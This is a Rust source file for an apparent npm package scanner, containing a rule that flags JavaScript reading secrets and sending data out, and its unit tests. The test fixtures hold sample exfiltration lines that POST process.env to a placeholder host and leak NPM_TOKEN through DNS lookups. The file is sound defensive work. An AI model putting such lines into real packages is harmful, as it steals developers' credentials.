//! Exfiltration: a file that reads secrets or host facts (`process.env`, `os.homedir()`,
//! `.npmrc`, SSH and cloud credentials, `os.hostname()`, `os.userInfo()`) and also sends data
//! out (`http(s).request`, `fetch`, sockets, DNS lookups of built names, `curl`/`wget` through
//! `child_process`). The finding is placed at the first send and names the reads.

use std::collections::BTreeSet;

use tarsier_model::Severity;

use crate::caps::{self, Cap};
use crate::rule_ids::EXFILTRATION;
use crate::{Ctx, text};

pub(crate) fn check(ctx: &mut Ctx<'_, '_>) {
    let mut reports = Vec::new();
    for (path, code) in ctx.js_files() {
        let hits = ctx.hits(path);
        let Some(send) = hits.iter().find(|h| h.cap == Cap::Network) else {
            continue;
        };
        // The first occurrence of each kind of read, in text order.
        let mut seen = BTreeSet::new();
        let reads: Vec<&caps::Hit> = hits
            .iter()
            .filter(|h| h.is_secret_read() && seen.insert(h.what.as_str()))
            .collect();
        if reads.is_empty() {
            continue;
        }
        let lines = text::LineIndex::new(code);
        let read_list: Vec<String> = reads
            .iter()
            .take(6)
            .map(|h| format!("{} (line {})", h.describe(), lines.line(h.start)))
            .collect();
        let message = format!(
            "{path} in {} reads {} and sends data out with {} (line {})",
            ctx.package.spec(),
            read_list.join(", "),
            send.describe(),
            lines.line(send.start)
        );
        let matched = format!(
            "{} -> {}",
            seen.into_iter().collect::<Vec<_>>().join(", "),
            send.what
        );
        reports.push((path, send.start, send.end, message, matched));
    }
    for (path, start, end, message, matched) in reports {
        ctx.report_in(
            EXFILTRATION,
            Severity::Error,
            message,
            path,
            start,
            end,
            &matched,
        );
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use crate::rule_ids::EXFILTRATION;
    use crate::{Options, PackageInput, analyze};

    fn run(code: &str) -> Vec<tarsier_model::Finding> {
        let files: Vec<(&str, &[u8])> =
            vec![("package.json", b"{}"), ("index.js", code.as_bytes())];
        let p = PackageInput::from_files("pkg", "1.0.0", &files).unwrap();
        analyze(&p, None, &Options::default())
            .findings
            .into_iter()
            .filter(|f| f.rule_id == EXFILTRATION)
            .collect()
    }

    #[test]
    fn env_plus_request_in_one_file() {
        let got = run(
            "const os = require('os');\nconst data = JSON.stringify({ env: process.env, host: os.hostname() });\n\
             require('https').request({ hostname: 'collector.invalid', method: 'POST' }).end(data);\n",
        );
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].span.start_line, 3);
        assert!(
            got[0].message.contains("process.env (line 2)"),
            "{}",
            got[0].message
        );
        assert_eq!(
            got[0].matched_text,
            "os.hostname(), process.env -> https request"
        );
    }

    #[test]
    fn dns_exfiltration() {
        let got =
            run("const t = process.env.NPM_TOKEN;\ndns.lookup(t + '.x.invalid', () => {});\n");
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].span.start_line, 2);
    }

    #[test]
    fn reads_or_sends_alone_are_fine() {
        assert!(run("module.exports = process.env.API_URL;\n").is_empty());
        assert!(run("fetch('/api').then(r => r.json());\n").is_empty());
        assert!(
            run("if (process.env.NODE_ENV !== 'production') fetch(url);\n").is_empty(),
            "NODE_ENV is not a secret"
        );
    }
}
